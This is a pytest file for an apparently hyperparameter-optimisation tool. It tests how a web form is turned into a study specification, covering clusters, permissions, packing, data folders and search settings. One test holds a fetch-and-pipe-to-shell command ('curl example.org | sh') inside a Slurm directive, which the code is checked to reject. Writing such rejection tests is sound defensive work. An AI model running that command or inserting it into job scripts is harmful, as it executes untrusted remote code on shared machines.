"""How a form becomes a study."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from hpo_core.model.errors import SpecError
from hpo_core.spec import StudySpec
from hpo_core.spec.packing import PackingSpec
from hpo_core.spec.sections import AddressClusterSpec, LocalClusterSpec, LocalCudaClusterSpec
from hpo_flows.deployed.flows import resume
from hpo_flows.deployed.form import StudyForm, study_of
from hpo_flows.deployed.permissions import NotAllowedError, Permissions
from tests.deployed.filled_forms import RATE, made

MODELS = ("models.net:fit", "models.net:load")


def test_what_needs_a_cluster_is_judged_by_the_one_that_was_chosen() -> None:
    permissions = Permissions(("models.net:fit",), clusters=("tls://a:1",))
    space = {"float": [RATE]}
    four = made(permissions, space=space, cluster={"local": {"workers": "4"}}, training={"gang": "4"})
    assert (four.training.gang, four.cluster) == (4, LocalClusterSpec(workers=4))
    with pytest.raises(SpecError, match="training.gang = 4 needs 4 slots at once, and cluster.workers gives 3"):
        made(permissions, space=space, cluster={"local": {"workers": "3"}}, training={"gang": "4"})
    at = {"address": {"address": "tls://a:1"}}
    shared = made(permissions, space=space, cluster=at, share={"weight": 2})
    assert shared.share is not None and (shared.share.pool, shared.share.weight) == (None, 2.0)
    with pytest.raises(SpecError, match="share.pool is absent"):
        made(permissions, space=space, share={"weight": 2})


def test_a_form_says_where_a_study_runs() -> None:
    permissions = Permissions(("models.net:fit",), clusters=("tls://a:1",))
    assert made(permissions, cluster=None).cluster == LocalClusterSpec(workers=2)
    at = {"address": {"address": "tls://a:1"}}
    assert made(permissions, cluster=at).cluster == AddressClusterSpec(address="tls://a:1")
    assert made(permissions, cluster={"local_cuda": {}}).cluster == LocalCudaClusterSpec()
    several = made(permissions, cluster={"local": {"workers": "{min: 1, max: 4}"}}).cluster
    assert several.scales is not None
    with pytest.raises(NotAllowedError, match="tls://b:1"):
        made(permissions, cluster={"address": {"address": "tls://b:1"}})


def test_a_form_writes_no_lines_of_a_job_script() -> None:
    """They run code, also where the kind is allowed for study files."""
    permissions = Permissions(("models.net:fit",), clusters=("slurm",))
    with pytest.raises(SpecError, match=r"form.cluster = .* must be one of \{local: \{...\}\}, \{address"):
        made(permissions, cluster={"slurm": {"directives": ["--wrap=curl example.org | sh"]}})


def test_everything_of_a_study_file_is_said_in_a_form(permissions: Permissions) -> None:
    advanced = {
        "style": "handle",
        "metrics": [{"name": "val_loss"}, {"name": "size", "mode": "min"}],
        "forbidden": ["{kind: sgd, rate: {low: 0.1}}"],
        "start_with": ["{rate: 0.5}"],
        "constants": "{shape: [1, 2]}",
        "best_of": "highest_rung",
        "stop": {"seconds": 500},
        "prefect": {"tags": ["gpu"]},
        "tracking": {"experiment": "ours"},
    }
    search = {"asha": {"configs": 9, "max_resource": 81, "advanced": {"brackets": "standard"}}}
    sampler = {"name": "TPESampler", "arguments": "{n_startup_trials: 5}"}
    given = advanced | {"metrics": []}
    spec = made(permissions, advanced=given, search=search, sampler=sampler)
    assert spec.start_with == [{"rate": 0.5}] and spec.constants == {"shape": [1, 2]}
    assert (spec.stop.seconds, spec.prefect.tags, spec.tracking.experiment) == (500, ["gpu"], "ours")
    assert spec.search.brackets == [0, 1, 2] and spec.sampler.arguments == {"n_startup_trials": 5}  # type: ignore[union-attr]
    several = made(permissions, advanced={name: advanced[name] for name in ("metrics", "constants")})
    assert [metric.name for metric in several.objectives] == ["val_loss", "size"]
    with pytest.raises(SpecError, match="form.constants cannot be read as YAML"):
        made(permissions, constants="{name: [")
    with pytest.raises(SpecError, match="unknown key"):
        made(permissions, pythonpaths=["/etc"])
    with pytest.raises(NotAllowedError, match="checkpoints.folder"):
        made(permissions, checkpoints={"folder": "s3://elsewhere"})


def test_where_code_comes_from_is_the_worker_s(permissions: Permissions) -> None:
    made_here = made(permissions, pythonpath=["/var/tmp"], study="other")
    assert made_here.pythonpath == [str(permissions.import_folders[0])] and made_here.study == "named"


def test_packing_has_fields_of_its_own(permissions: Permissions) -> None:
    assert made(permissions).packing is None
    assert made(permissions, packing={"policy": "fill"}).packing == PackingSpec(), "opened, and left as it stood"
    filled = {"policy": "worst_fit", "demand": {"memory": "2GB", "compute": "30"}, "by": ["rate"],
              "memory": "8GB", "oversubscribe": "{A100: 3}", "most": 4}  # fmt: skip
    space = {"int": [{"name": "rate", "low": 1, "high": 9}]}
    packing = made(permissions, packing=filled, space=space).packing
    assert packing is not None and packing.policy == "worst_fit" and packing.most == 4 and packing.by == ["rate"]
    assert packing.demand.stated() == {"memory": "2GB", "compute": 30}
    assert packing.memory == {"default": "8GB"} and packing.ratio("A100") == 3
    with pytest.raises(SpecError, match="packing.demand.memory"):
        made(permissions, packing={"demand": {"memory": "2GB * depth"}})


def test_data_have_fields_of_their_own(permissions: Permissions, tmp_path: Path) -> None:
    allowed = dataclasses.replace(permissions, data_folder=tmp_path / "data")
    assert made(allowed).data is None
    data = made(allowed, data={"partitions": "*.npz", "scheduler": "randomized", "folder": "shards"}).data
    assert data is not None and data.partitions == "*.npz" and data.scheduler == "randomized"
    assert data.folder == str(tmp_path / "data" / "shards"), "relative to the deployment's folder of data"
    data = made(allowed, data={"partitions": "[b, {name: a, count: 3}]", "validation": "[v, w]"}).data
    assert data is not None and data.folder == str(tmp_path / "data")
    assert [file.name for file in (*data.files, *data.validation_files)] == ["a", "b", "v", "w"]
    with pytest.raises(SpecError, match="data.partitions: is required"):
        made(allowed, data={"scheduler": "randomized"})
    with pytest.raises(SpecError, match="form.data.partitions cannot be read as YAML"):
        made(allowed, data={"partitions": "[a"})
    beside = made(permissions, data={"partitions": "[a]", "folder": "shards"}).data
    assert beside is not None and beside.folder == str(permissions.folder / "shards"), "as its text says"  # type: ignore[operator]


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"space": {}}, r"form: space: .*at least 1 item|form: space: is empty"),
        ({"space": {"float": [RATE], "categorical": [{"name": "rate", "choices": ["a"]}]}}, "two rows for 'rate'"),
        ({"space": {"int": [{"name": "w", "low": 1.5, "high": 4}]}}, r"form: space.w.low"),
        ({"space": {"float": [{"name": "w", "low": 1}]}}, r"form: space.w.high: is required"),
        ({"space": {"float": [{"low": 1}]}}, r"form.space.float.0 = .* must be a row with a name"),
        ({"space": {"categorical": [{"name": "c", "choices": ["a", "[{b: 1}]"]}]}}, "a mapping is no value"),
        ({"space": {"whole": [RATE]}}, "must be a list of rows, by float, int, categorical"),
        ({"search": {"bayes": {}}}, r"form.search = .* must be one of \{asha"),
        ({"search": {"asha": {"max_resource": 9}}}, "it has no end. Give configs|search asha without configs"),
        ({"seed": 7, "advanced": {"seed": 3}}, "form: seed stands in advanced and beside it; give it once"),
    ],
)
def test_what_makes_no_study_says_why(permissions: Permissions, changes: dict[str, Any], says: str) -> None:
    with pytest.raises(SpecError, match=says):
        made(permissions, **changes)


def test_what_a_form_sends_means_what_a_study_file_says() -> None:
    """A form sends defaults; given in a file they would count as chosen."""
    drawn = StudyForm.form()["properties"]["search"]["anyOf"][0]["properties"]["asha"]
    fold = drawn["properties"]["advanced"]["anyOf"][1]
    sent = {"asha": defaults(drawn) | {"advanced": defaults(fold)}}
    rest = {"study": "s", "metric": {"name": "loss"}, "space": {"x": {"type": "float", "low": 0, "high": 1}}}
    said = {"method": "asha", "configs": 30, "max_resource": 27}
    for eta in ({}, {"reduction_factor": 3}):
        sent["asha"]["advanced"] |= eta
        read = StudyForm.plain({"search": sent})["search"]
        in_file = StudySpec.from_plain(rest | {"search": said | eta}).search
        assert StudySpec.from_plain(rest | {"search": read}).search == in_file, "3 that is written out decides"


def defaults(box: dict[str, Any]) -> dict[str, Any]:
    return {name: one["default"] for name, one in box["properties"].items() if "default" in one}


def test_what_a_form_does_not_take_is_said_without_passwords() -> None:
    with pytest.raises(SpecError, match="configs") as raised:
        resume.fn(study="a", configs="https://me:pw-of-mine@host/x")
    assert "pw-of-mine" not in str(raised.value)


ROWS: dict[str, Any] = {
    "objective": "models.net:fit",
    "metric": {"name": "loss"},
    "space": {
        "float": [
            {"name": "x", "low": -1, "high": 1},
            {"name": "lr", "low": 0.001, "high": 1, "log": True},
            {"name": "momentum", "low": 0, "high": 0.9, "advanced": {"when": "{net.kind: [a, 16]}"}},
        ],
        "int": [{"name": "net.width", "low": 8, "high": 32, "advanced": {"step": 8}}],
        "categorical": [
            {"name": "net.kind", "choices": ["a", "'16'", "16", "true", "null", "0.5"]},
            {"name": "size", "type": "ordinal", "choices": ["1", "2", "4"]},
        ],
    },
    "search": {"random": {"configs": 3, "max_resource": 2}},
    "advanced": {
        "start_with": ["{x: 0.25}"],
        "constants": "{data: a.npz}",
        "training": {"threads": "2", "fail_fast": 0},
    },
}
"""A form with a parameter of each kind, and fields that hold YAML."""
STUDY: dict[str, Any] = {
    "study": "named",
    "objective": "models.net:fit",
    "metric": {"name": "loss"},
    "space": {
        "x": {"type": "float", "low": -1, "high": 1},
        "lr": {"type": "float", "low": 0.001, "high": 1, "log": True},
        "momentum": {"type": "float", "low": 0, "high": 0.9, "when": {"net.kind": ["a", 16]}},
        "net.width": {"type": "int", "low": 8, "high": 32, "step": 8},
        "net.kind": {"type": "categorical", "choices": ["a", "16", 16, True, None, 0.5]},
        "size": {"type": "ordinal", "choices": [1, 2, 4]},
    },
    "search": {"method": "random", "configs": 3, "max_resource": 2},
    "start_with": [{"x": 0.25}],
    "constants": {"data": "a.npz"},
    "training": {"threads": 2, "fail_fast": None},
}
"""The study file that says the same."""


def test_each_kind_of_parameter_and_yaml_in_a_field_is_as_in_a_study_file() -> None:
    found = study_of(StudyForm.read(ROWS), "named", Permissions(MODELS))
    assert found.plain() == StudySpec.from_plain(STUDY | {"pythonpath": []}).plain()
